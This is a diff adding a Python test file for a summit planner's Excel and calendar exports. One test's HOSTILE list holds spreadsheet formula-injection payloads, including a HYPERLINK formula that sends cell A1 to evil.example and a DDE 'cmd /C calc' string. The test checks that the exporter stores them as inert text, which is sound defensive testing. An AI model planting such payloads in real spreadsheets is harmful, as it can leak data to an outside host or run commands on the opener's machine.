@@ -1,0 +1,238 @@
+"""The Excel and calendar exports, reopened the way a colleague's Excel or phone would."""
+
+from __future__ import annotations
+
+import hashlib
+import zipfile
+from datetime import date, datetime, time, timedelta
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+from icalendar import Calendar
+
+from db.models import AgendaIssue, Meeting, Track
+from planner.cli import run_command
+from planner.errors import PlannerError
+from planner.export.calendar import export_calendar
+from planner.export.cells import CUT_MARK, MAX_TEXT
+from planner.export.workbook import STEPS, block_lines, export_workbook, text_lines
+from planner.summit_file import close_summit_file, open_summit_file
+
+ZONE = ZoneInfo("Asia/Almaty")
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=cmd|' /C calc'!A0",
+    "=1+1",
+]
+
+
+def workbook(path):
+    return openpyxl.load_workbook(path)
+
+
+def test_workbook_has_every_sheet_laid_out_for_screen_and_paper(sample_summit, tmp_path):
+    out = tmp_path / "astana.xlsx"
+    export_workbook(out)
+    book = workbook(out)
+    assert book.sheetnames == [
+        "Summary",
+        "Schedule",
+        "Mon 16 Jun",
+        "Tue 17 Jun",
+        "Issues",
+        "Positions",
+        "Talking points",
+        "Financing",
+        "Financing totals",
+        "Conflicts",
+    ]
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes == "A2", sheet.title
+        assert sheet.print_title_rows == "$1:$1", sheet.title
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
+        assert sheet.page_setup.fitToWidth == 1, sheet.title
+        assert sheet["A1"].font.bold, sheet.title
+        if not sheet.title.startswith(("Mon", "Tue")):
+            last = openpyxl.utils.get_column_letter(sheet.max_column)
+            assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}", sheet.title
+    assert book["Schedule"].page_setup.orientation == "landscape"
+    assert "Central Asia–China Summit" in book.properties.title
+    assert book.properties.creator.startswith("Summit Planner")
+
+
+def test_schedule_rows_hold_real_dates_and_times_in_the_summit_zone(sample_summit, tmp_path):
+    out = tmp_path / "astana.xlsx"
+    export_workbook(out)
+    sheet = workbook(out)["Schedule"]
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(2)]
+    meetings = {m.id: m for m in Meeting.select()}
+    assert len(rows) == len(meetings)
+    assert [r["Meeting ID"] for r in rows] == sorted(meetings, key=lambda i: (meetings[i].start, i))
+    for row in rows:
+        meeting = meetings[row["Meeting ID"]]
+        start = meeting.start.astimezone(ZONE)
+        assert row["Day"] == datetime.combine(start.date(), time())  # a date, not text
+        assert row["Start"] == start.time().replace(tzinfo=None)
+        assert row["End"] == meeting.end.astimezone(ZONE).time().replace(tzinfo=None)
+        assert row["Minutes"] == (meeting.end - meeting.start) // timedelta(minutes=1)
+        assert row["Title"] == meeting.title
+    assert sheet["A2"].number_format == "yyyy-mm-dd"
+    assert sheet["B2"].number_format == "hh:mm"
+    first = rows[0]
+    assert first["Agenda issues"].startswith("POL-06, POL-01")
+    wrapped = [sheet.row_dimensions[r].height for r in range(2, sheet.max_row + 1)]
+    assert any(h and h > 15 for h in wrapped)  # long titles get taller rows
+
+
+def test_one_delegations_view_without_positions(sample_summit, tmp_path):
+    out = tmp_path / "kg.xlsx"
+    export_workbook(out, delegation="kg", positions=False)
+    book = workbook(out)
+    assert "Positions" not in book.sheetnames and "Talking points" not in book.sheetnames
+    rows = list(book["Schedule"].iter_rows(2, values_only=True))
+    assert rows and all("KG" in row[7].split(", ") for row in rows)
+    assert len(rows) < Meeting.select().count()
+    assert dict(book["Summary"].iter_rows(2, values_only=True))["View"] == "meetings of KG"
+
+
+def test_unknown_delegation_is_named_and_nothing_is_written(sample_summit, tmp_path):
+    out = tmp_path / "xx.xlsx"
+    with pytest.raises(PlannerError, match="no delegation XX.*KZ"):
+        export_workbook(out, delegation="xx")
+    assert list(tmp_path.glob("*.xlsx")) == []
+
+
+def test_hostile_text_comes_back_as_the_same_inert_text(sample_summit, tmp_path):
+    track = Track.select().first()
+    long_text = "x" * (MAX_TEXT + 500)
+    for number, text in enumerate(HOSTILE):
+        AgendaIssue.create(code=f"HOST-{number}", title=text, track=track, description=text)
+    AgendaIssue.create(
+        code="HOST-CTRL", title="bell\x07 and null\x00 gone", track=track, description=long_text
+    )
+    out = tmp_path / "hostile.xlsx"
+    export_workbook(out)
+    sheet = workbook(out)["Issues"]
+    found = {row[0].value: row for row in sheet.iter_rows(2) if row[0].value.startswith("HOST")}
+    for number, text in enumerate(HOSTILE):
+        title = found[f"HOST-{number}"][1]
+        assert title.value == text.replace("\r", "\n")  # line ends are line feeds in XML
+        assert title.data_type == "s"  # text, never a formula
+    control = found["HOST-CTRL"]
+    assert control[1].value == "bell and null gone"
+    assert len(control[8].value) == MAX_TEXT and control[8].value.endswith(CUT_MARK)
+    with zipfile.ZipFile(out) as archive:
+        xml = "".join(
+            archive.read(name).decode()
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/")
+        )
+    assert "<f>" not in xml and "<f " not in xml  # not a single formula anywhere
+
+
+def test_cancelled_export_leaves_the_earlier_file_as_it_was(sample_summit, tmp_path):
+    out = tmp_path / "astana.xlsx"
+    export_workbook(out)
+    before = hashlib.sha256(out.read_bytes()).hexdigest()
+    seen = []
+
+    def cancel_at_positions(step: str) -> bool:
+        seen.append(step)
+        return step != "positions"
+
+    with pytest.raises(PlannerError, match="cancelled"):
+        export_workbook(out, progress=cancel_at_positions)
+    assert seen == list(STEPS[: STEPS.index("positions") + 1])
+    assert hashlib.sha256(out.read_bytes()).hexdigest() == before
+    assert [p.name for p in tmp_path.iterdir() if p.is_file() and p.suffix != ".summit"] == [
+        "astana.xlsx"
+    ]
+
+
+def test_failed_write_names_the_file_and_leaves_nothing(sample_summit, tmp_path):
+    with pytest.raises(PlannerError, match="missing.*could not be written"):
+        export_workbook(tmp_path / "missing" / "out.xlsx")
+
+
+def test_day_chart_lines_fit_the_rows_a_meeting_covers():
+    class Block:
+        title = "Plenary session of the Heads of State on the future of the region"
+        start = datetime(2025, 6, 17, 10, 30)
+        end = datetime(2025, 6, 17, 12, 30)
+        participants = "KZ-CN-KG"
+
+    lines = block_lines(Block, 8)
+    assert lines[-2:] == ["10:30–12:30", "KZ-CN-KG"]
+    assert " ".join(lines[:-2]) == Block.title
+    short = block_lines(Block, 2)
+    assert len(short) == 2 and short[-1].endswith("…")
+    assert text_lines("a" * 30, 26) == 2 and text_lines("one\ntwo", 26) == 2
+
+
+def test_clashing_meetings_in_one_room_show_on_the_day_chart(sample_summit, tmp_path):
+    first, second = Meeting.select().where(Meeting.room.is_null(False)).limit(2)
+    second.room, second.start, second.end = first.room, first.start, first.end
+    second.save()
+    out = tmp_path / "clash.xlsx"
+    export_workbook(out)
+    day = first.start.astimezone(ZONE)
+    sheet = workbook(out)[f"{day:%a %d %b}"]
+    texts = [c.value or "" for row in sheet.iter_rows(2) for c in row[1:]]
+    assert any(first.title[:20] in t and " / " in t for t in texts)
+    fills = {c.fill.fgColor.rgb for row in sheet.iter_rows(2) for c in row[1:]}
+    assert "00FFCDD2" in fills
+
+
+def test_calendar_events_parse_with_stable_uids_zone_and_status(sample_summit, tmp_path):
+    first, second = tmp_path / "a.ics", tmp_path / "b.ics"
+    count = export_calendar(first)
+    export_calendar(second)
+    calendar = Calendar.from_ical(first.read_bytes())
+    events = calendar.walk("VEVENT")
+    meetings = {m.id: m for m in Meeting.select()}
+    assert count == len(events) == len(meetings)
+    assert [e["UID"] for e in events] == [
+        e["UID"] for e in Calendar.from_ical(second.read_bytes()).walk("VEVENT")
+    ]
+    assert len({e["UID"] for e in events}) == len(events)
+    assert calendar.walk("VTIMEZONE")[0]["TZID"] == "Asia/Almaty"
+    statuses = {"cancelled": "CANCELLED", "confirmed": "CONFIRMED", "proposed": "TENTATIVE"}
+    for event in events:
+        meeting = meetings[int(str(event["UID"]).split("-")[1])]
+        start = event.decoded("DTSTART")
+        assert start == meeting.start and str(start.tzinfo) == "Asia/Almaty"
+        assert event.decoded("DTEND") == meeting.end
+        assert str(event["SUMMARY"]) == meeting.title
+        if meeting.status in statuses:
+            assert event["STATUS"] == statuses[meeting.status]
+    opening = next(e for e in events if str(e["UID"]).startswith("meeting-1-"))
+    assert "POL-06 Biennial summit format" in str(opening["DESCRIPTION"])
+    assert "Astana Hall" in str(opening["LOCATION"])
+
+
+def test_calendar_of_one_delegation(sample_summit, tmp_path):
+    out = tmp_path / "tm.ics"
+    count = export_calendar(out, delegation="TM")
+    events = Calendar.from_ical(out.read_bytes()).walk("VEVENT")
+    assert count == len(events) and 0 < count < Meeting.select().count()
+    assert all("TM" in str(e["DESCRIPTION"]).splitlines()[0] for e in events)
+
+
+def test_command_line_export_and_ics(sample_summit, tmp_path, capsys):
+    close_summit_file()
+    xlsx, ics = tmp_path / "out.xlsx", tmp_path / "out.ics"
+    assert run_command(["export", str(sample_summit), str(xlsx), "--no-positions"]) == 0
+    assert "Positions" not in workbook(xlsx).sheetnames
+    assert run_command(["ics", str(sample_summit), str(ics), "--delegation", "KZ"]) == 0
+    assert "events)" in capsys.readouterr().out
+    assert run_command(["ics", str(sample_summit), str(ics), "--delegation", "QQ"]) == 1
+    assert "no delegation QQ" in capsys.readouterr().err
+    open_summit_file(sample_summit)
+    assert date(2025, 6, 16) <= Meeting.select().first().start.date()
